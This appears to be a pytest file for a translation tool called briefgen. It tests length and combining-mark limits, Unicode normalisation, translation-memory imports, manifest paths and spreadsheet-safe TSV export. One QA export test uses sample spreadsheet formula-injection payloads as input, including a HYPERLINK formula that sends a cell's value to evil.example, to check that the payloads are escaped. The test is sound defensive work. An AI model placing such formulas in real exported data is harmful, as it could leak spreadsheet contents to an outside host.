"""Where text enters briefgen: named limits (length, combining marks) refused at the door with the file and
unit, NFC whatever the source, TMX units trusted only as far as they say, spreadsheet-safe TSV, manifests
that travel without the build machine's paths."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import sqlite3
import unicodedata
from pathlib import Path

import pytest
from design_support import EXAMPLE, MINIMAL, ROOT, run_cli
from lxml import etree

from briefgen.errors import ModelError
from briefgen.memory.store import Memory, Unit
from briefgen.qa.checks import Issue
from briefgen.qa.report import qa_tsv
from briefgen.terms.tbx import write_tbx
from briefgen.terms.tsv import read_tsv
from briefgen.textsafety import MAX_TEXT_CHARS, nfc, text_problem
from briefgen.translate.base import DictionaryTranslator

XLF = "{urn:oasis:names:tc:xliff:document:1.2}"
BAD = ROOT / "tests" / "data" / "bad" / "other"


def _nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


def _units(memory: Path) -> list[tuple[str, str, str]]:
    if not memory.exists():
        return []
    with contextlib.closing(sqlite3.connect(memory)) as db:
        return db.execute("SELECT src_text, tgt_text, status FROM units ORDER BY segment_id").fetchall()


@pytest.fixture
def memory_path() -> Path:
    return Path(os.environ["BRIEFGEN_MEMORY"])


@pytest.fixture
def exported(tmp_path: Path) -> Path:
    """The example record with its .tmx in tmp_path, and its Russian exported for review."""
    shutil.copy(EXAMPLE, tmp_path / EXAMPLE.name)
    shutil.copy(EXAMPLE.with_suffix(".tmx"), tmp_path / EXAMPLE.with_suffix(".tmx").name)
    xlf = tmp_path / "ru.xlf"
    assert run_cli(["review", "export", str(tmp_path / EXAMPLE.name), "--lang", "ru", "-o", str(xlf)])[0] == 0
    return xlf


def test_an_xliff_target_of_a_million_characters_is_refused_with_its_unit(exported: Path, memory_path: Path) -> None:
    before = _units(memory_path)
    tree = etree.parse(str(exported))
    target = tree.find(f".//{XLF}trans-unit[@id='purpose.1']/{XLF}target")
    target.text = "Очень " * 240_000
    tree.write(str(exported), encoding="UTF-8", xml_declaration=True)
    code, out, err = run_cli(["review", "import", str(exported)])
    assert (code, out) == (2, "")
    assert err.strip().splitlines() == [
        f"briefgen: error: {exported}:{target.sourceline}: unit purpose.1: text is 1,440,000 characters long, more "
        f"than the {MAX_TEXT_CHARS:,} one paragraph may have: split it into shorter paragraphs"]
    assert _units(memory_path) == before


def test_a_tmx_target_of_a_million_characters_is_refused_with_its_unit(tmp_path: Path, memory_path: Path) -> None:
    tmx = tmp_path / "big.tmx"
    tmx.write_text('<?xml version="1.0"?><tmx version="1.4"><header srclang="fr"/><body>\n'
                   '<tu tuid="purpose.1"><tuv xml:lang="fr"><seg>Oui.</seg></tuv>\n'
                   f'<tuv xml:lang="ar"><seg>{"نعم " * 350_000}</seg></tuv></tu></body></tmx>', encoding="utf-8")
    code, _, err = run_cli(["memory", "import", str(tmx)])
    assert code == 2
    assert err.strip() == (f"briefgen: error: {tmx}:3: unit purpose.1 (ar): text is 1,399,999 characters long, more "
                           f"than the {MAX_TEXT_CHARS:,} one paragraph may have: split it into shorter paragraphs")
    assert not memory_path.exists()


def test_a_decomposed_xliff_is_neither_stale_nor_stored_decomposed(exported: Path, memory_path: Path) -> None:
    """A CAT tool that writes NFD (macOS file names, some editors): the record's text is NFC."""
    tree = etree.parse(str(exported))
    for tu in tree.iter(f"{XLF}trans-unit"):
        for element in (tu.find(f"{XLF}source"), tu.find(f"{XLF}target")):
            if element is not None and element.text:
                element.text = _nfd(element.text)
        target = tu.find(f"{XLF}target")
        if target is not None and tu.get("translate") != "no":
            target.text = (target.text or "") + " (проверено)"   # an edit, so each unit is imported
    tree.write(str(exported), encoding="UTF-8", xml_declaration=True)
    title = etree.parse(str(exported)).find(f".//{XLF}trans-unit[@id='title']")
    assert not unicodedata.is_normalized("NFC", title.findtext(f"{XLF}source") + title.findtext(f"{XLF}target"))
    code, out, err = run_cli(["review", "import", str(exported)])
    assert code == 0 and err == "", err
    assert out.startswith("eg-ru-2019-06-09 ru: imported 40 reviewed segment(s), 0 unchanged, 0 stale;")
    sidecar = exported.with_name("eg-ru-2019-06-09.tmx")       # the record's .tmx the import updated
    assert "(проверено)" in sidecar.read_text(encoding="utf-8")
    assert unicodedata.is_normalized("NFC", sidecar.read_text(encoding="utf-8"))
    stored = [u for u in _units(memory_path) if u[1].endswith("(проверено)")]
    assert len(stored) == 40 and all(unicodedata.is_normalized("NFC", s + t) for s, t, _ in stored)


def test_a_tmx_without_briefgens_status_is_imported_as_machine_drafts_unless_reviewed(memory_path: Path) -> None:
    tmx = BAD / "memory-no-status.tmx"
    code, out, _ = run_cli(["memory", "import", str(tmx)])
    assert (code, out) == (0, f"{tmx}: 2 translations added to the memory (0 reviewed, 2 machine drafts)\n")
    assert [u[2] for u in _units(memory_path)] == ["machine", "machine"]
    # a build does not print a draft no translator confirmed: the minimal record's title would need it
    with Memory(memory_path) as memory:
        assert memory.lookup("fr", "ru", "Réunion de travail", None) is None
        assert memory.lookup("fr", "ru", "Réunion de travail", None, any_machine=True).tgt_text == "Рабочая встреча"
    code, out, _ = run_cli(["memory", "import", str(tmx), "--reviewed"])
    assert (code, out) == (0, f"{tmx}: 2 translations added to the memory (2 reviewed, 0 machine drafts)\n")
    with Memory(memory_path) as memory:
        assert memory.lookup("fr", "ar", "Promouvoir la coopération.", None).status == "reviewed"


def test_a_sidecar_written_for_its_record_is_taken(tmp_path: Path, memory_path: Path) -> None:
    """A .tmx that names its record (as briefgen writes a sidecar) and one that does not are both taken."""
    from briefgen.memory.tmx import read_tmx, write_tmx

    record = tmp_path / "minimal.yaml"
    shutil.copy(MINIMAL, record)
    units = read_tmx(BAD / "sidecar-of-another-record.tmx", "minimal")
    write_tmx(units, record.with_suffix(".tmx"), record_id="minimal")
    assert 'type="x-briefgen-record">minimal<' in record.with_suffix(".tmx").read_text(encoding="utf-8")
    code, _, err = run_cli(["build", str(record), "--out", str(tmp_path / "out")])
    assert code == 0, err
    # taken (not refused), and read where it is: only an import puts a record's .tmx into the memory
    assert ("Promouvoir la coopération.", "Содействовать сотрудничеству.", "reviewed") not in _units(memory_path)


def test_model_output_enters_in_nfc_and_a_runaway_decoder_is_refused() -> None:
    drafts = {"Oui.": _nfd("Да, конечно й."), "Non.": "Нет" + "\u0301" * 40, "Bref.": "Коротко. " * 3000}
    translator = DictionaryTranslator({("fr", "ru"): drafts})
    assert translator.translate(["Oui."], "fr", "ru") == ["Да, конечно й."]
    with pytest.raises(ModelError, match=r"^dictionary fr→ru made an unusable translation of «Non\.»: its text has "
                                         r"40 combining marks on one character \('т', character 3 of the text\)"):
        translator.translate(["Oui.", "Non."], "fr", "ru")
    with pytest.raises(ModelError, match=r"its text is 27,000 characters long"):
        translator.translate(["Bref."], "fr", "ru")


def test_a_memory_unit_over_the_limits_is_passed_over_with_a_warning(memory_path: Path,
                                                                    caplog: pytest.LogCaptureFixture) -> None:
    """A unit stored before the limits existed does not stall every build."""
    with Memory(memory_path) as memory:
        memory.store([Unit("fr", "ru", "Oui.", "Да.", "reviewed", "review:a", "r", "s1", "2020-01-01T00:00:00"),
                      Unit("fr", "ru", "Oui.", "Да " * 10_000, "reviewed", "review:b", "r", "s1",
                           "2021-01-01T00:00:00")])
        assert memory.lookup("fr", "ru", "Oui.", None, "s1").tgt_text == "Да."
    assert "a reviewed ru translation of segment s1 is not used: its text is 30,000 characters long" in caplog.text


def test_qa_tsv_cells_that_would_start_a_formula_are_text_in_a_spreadsheet() -> None:
    issues = [Issue("error", "ru", "agenda.x.points.1", 3, "number", "numbers differ from the source: missing 2019",
                    '=HYPERLINK("http://evil.example/?"&A1;"Cliquer") 2019', "+SUM(1+1) 2018", "reviewed"),
              Issue("warning", "ar", "agenda.x.points.2", 4, "length", "translation is 0.2× the length of the source",
                    "@SUM(A1:A9) en 2019", "-2+3 2019", "machine")]
    rows = [line.split("\t") for line in qa_tsv(issues).splitlines()[1:]]
    assert [row[-2:] for row in rows] == [
        ['"\'=HYPERLINK(""http://evil.example/?""&A1;""Cliquer"") 2019"', "'+SUM(1+1) 2018"],
        ["'@SUM(A1:A9) en 2019", "'-2+3 2019"]]


def test_a_glossary_written_as_tsv_is_spreadsheet_safe_and_reads_back_the_same(tmp_path: Path) -> None:
    from briefgen.terms.glossary import Concept

    concept = Concept("plus-seven", "telecom", {"fr": ("+7 (indicatif)",), "ru": ("+7 (код)",), "ar": ("@الرمز",)},
                      "preferred", "=a note", "x", 1)
    write_tbx([concept], tmp_path / "g.tbx")
    code, _, err = run_cli(["glossary", "import", str(tmp_path / "g.tbx"), "-o", str(tmp_path / "g.tsv")])
    assert code == 0, err
    line = (tmp_path / "g.tsv").read_text(encoding="utf-8").splitlines()[1].split("\t")
    assert line[2:5] == ["'+7 (indicatif)", "'+7 (код)", "'@الرمز"] and line[-1] == "'=a note"
    [back] = read_tsv(tmp_path / "g.tsv").concepts
    assert back.terms == concept.terms and back.note == "=a note"


def test_glossary_terms_enter_in_nfc(tmp_path: Path) -> None:
    path = tmp_path / "g.tsv"
    path.write_text("id\tdomain\tfr\tru\tar\ten\tstatus\tnote\n"
                    f"x\tai\t{_nfd('sécurité')}\t{_nfd('безопасность й')}\tأمن\tsecurity\tpreferred\t\n",
                    encoding="utf-8")
    [concept] = read_tsv(path).concepts
    assert concept.terms["fr"] == ("sécurité",) and concept.terms["ru"] == ("безопасность й",)


def test_the_manifest_names_no_path_of_the_build_machine(example_build: Path) -> None:
    text = (example_build / "manifest.json").read_text(encoding="utf-8")
    # the shipped termbase relative to briefgen, the meeting's own layer relative to its record
    assert json.loads(text)["glossary"]["layers"] == ["glossaries/ict.tsv", "eg-ru-2019-06-09.glossary.tsv"]
    assert str(ROOT) not in text and str(example_build.parent) not in text


def test_the_marks_limit_on_the_labelled_set_refuses_every_flood_and_no_real_text() -> None:
    """tests/data/text_limits.jsonl: French, Russian and Arabic as written (composed, decomposed, stressed, fully
    vowelled, Quranic), names in other scripts, and floods of marks at and over the limit, each labelled."""
    cases = [json.loads(line) for line in (ROOT / "tests" / "data" / "text_limits.jsonl").read_text(
        encoding="utf-8").splitlines()]
    for lang in ("fr", "ru", "ar"):
        mine = [c for c in cases if c["lang"] == lang]
        refused = {c["note"] for c in mine if text_problem(c["text"]) is not None}
        floods = {c["note"] for c in mine if c["label"] == "refuse"}
        precision = len(refused & floods) / max(1, len(refused))
        recall = len(refused & floods) / max(1, len(floods))
        assert (precision, recall) == (1.0, 1.0), (lang, sorted(refused ^ floods))
        assert len(floods) >= 3 and len(mine) - len(floods) >= 3
    assert all(unicodedata.is_normalized("NFC", nfc(c["text"])) for c in cases)
